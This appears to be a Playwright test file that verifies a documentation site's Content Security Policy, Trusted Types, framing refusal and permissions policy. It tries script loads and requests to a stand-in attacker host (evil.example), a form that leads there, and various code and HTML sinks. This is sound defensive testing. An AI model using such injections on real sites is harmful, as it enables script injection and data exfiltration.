import path from 'node:path'
import type { Page } from '@playwright/test'
import { readCases } from '../../packages/docs402/content/testing'
import { plainSiteUrl, siteUrl } from '../support/servers'
import { injectInto, type Delivery } from './support/inject'
import { noteViolations } from './support/violations'
import { expect, soft, test } from '../support/test'

// What is injected is tried three times: against the policy as a header, as the page's own element, and against none at
// all. The last one shows that each injection works, and that the test would see it.

const PATH = '/docs/intro'
const EVIL = 'https://evil.example'
const FORM = '/form?'

/** What is injected, the directive that refuses it, and what is true in the page when it took effect, or a path. */
const INJECTIONS = readCases(path.join(import.meta.dirname, 'injections.txt')).map(
  ({ name, text, mark, expected: [effect = ''] }) => [name, text, mark, effect] as const,
)
const ALL = INJECTIONS.map(([, markup]) => markup).join('')

/**
 * Tries, in a task of the page's own, all that would make code or HTML of a text, or send something elsewhere. What a
 * test evaluates itself is not ruled by the policy. Gives the names of what was done.
 */
const tryText = (page: Page) =>
  page.evaluate(
    (evil) =>
      new Promise<string[]>((resolve) =>
        setTimeout(() => {
          const script = () => document.createElement('script')
          const tries: Record<string, () => unknown> = {
            code: () => Function('return 1')(),
            'HTML in an element': () => (document.createElement('p').innerHTML = '<b>x</b>'),
            'HTML beside an element': () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
            'a document': () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
            'the text of a script': () => (script().text = '1'),
            'a script of another site': () => (script().src = `${evil}/assets/a.js`),
            'a script of this site': () => (script().src = '/assets/site.js'),
            'a worker of another place': () => new Worker(`${location.origin}/pagefind/pagefind-worker.js`).terminate(),
            'a policy with another name': () =>
              window.trustedTypes?.createPolicy('evil', { createHTML: (text) => text, createScriptURL: (url) => url }),
            'a request to another site': () => fetch(`${evil}/sent`),
          }
          const works = async ([name, act]: [string, () => unknown]) => {
            try {
              await act()
              return [name]
            } catch {
              return []
            }
          }
          void Promise.all(Object.entries(tries).map(works)).then((done) => resolve(done.flat()))
        }),
      ),
    EVIL,
  )

for (const delivery of ['header', 'meta', 'none'] as const satisfies readonly Delivery[])
  test(`what is injected ${delivery === 'none' ? 'works without a policy' : `is refused by the policy as ${delivery}`}`, async ({
    page,
  }) => {
    const refused = await noteViolations(page)
    const reached = await injectInto(page, PATH, ALL, delivery)
    await page.goto(PATH)
    const done = await tryText(page)
    expect(done).toHaveLength(delivery === 'none' ? 10 : 0)

    await page.locator('#link').evaluate((link: HTMLElement) => link.click())

    // Styles are left to the page's own policy.
    const tried = INJECTIONS.filter(([, , directive]) => delivery !== 'header' || !directive.startsWith('style-'))
    const worked = (effect: string) =>
      effect.startsWith('/') ? reached.includes(EVIL + effect) : page.evaluate<boolean>(effect)
    const submit = () =>
      page.locator('#form').evaluate((form) => form instanceof HTMLFormElement && form.requestSubmit())
    if (delivery === 'none') {
      for (const [what, , , effect] of tried)
        if (effect !== FORM) await soft.poll(() => worked(effect), what).toBe(true)
      // Leads away.
      await submit()
      await expect.poll(() => reached).toContain(EVIL + FORM)
      return
    }
    await submit()
    const directives = async () => (await refused()).map((line) => line.split(' ', 1)[0])
    const expected = [...tried.map(([, , directive]) => directive), 'connect-src', 'require-trusted-types-for']
    await expect.poll(directives).toEqual(expect.arrayContaining(expected))
    for (const [what, , , effect] of tried) soft(await worked(effect), what).toBe(false)
  })

test('another site can not show this one in a frame', async ({ page }) => {
  const show = async (headers: 'as they are' | 'left out') => {
    await page.unrouteAll()
    await page.route(`${plainSiteUrl}/frame`, (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${siteUrl}/docs" title="x"></iframe>` }),
    )
    if (headers === 'left out')
      await page.route(`${siteUrl}/docs`, async (route) => {
        const response = await route.fetch()
        await route.fulfill({ response, headers: { 'content-type': 'text/html' } })
      })
    await page.goto(`${plainSiteUrl}/frame`)
    return page.frameLocator('iframe').locator('main h1').count()
  }
  expect(await show('as they are')).toBe(0)
  expect(await show('left out')).toBe(1)
})

test('the page stands alone: powers of the browser are switched off, by names that it knows', async ({ page }) => {
  const warnings: string[] = []
  page.on('console', (message) => warnings.push(message.text()))
  await page.goto('/')
  const left = await page.evaluate(() => {
    const policy: unknown = Reflect.get(document, 'featurePolicy')
    const allowed: unknown = policy instanceof Object ? Reflect.get(policy, 'allowedFeatures') : undefined
    return typeof allowed === 'function' ? (allowed.call(policy) as string[]) : []
  })
  const powers =
    /camera|microphone|geolocation|payment|usb|serial|hid|midi|sensor|gyro|accel|magnet|display|credential|clipboard-read|idle|xr|local-fonts|window-management|storage-access|topics/
  expect(left).toContain('clipboard-write')
  expect(left.filter((name) => powers.test(name) && !/^(?:ch|digital)-/.test(name))).toEqual([])
  expect(warnings.filter((text) => /permissions.policy|unrecognized feature/i.test(text))).toEqual([])
  // No other window reaches it, and it may measure exactly.
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true)
})
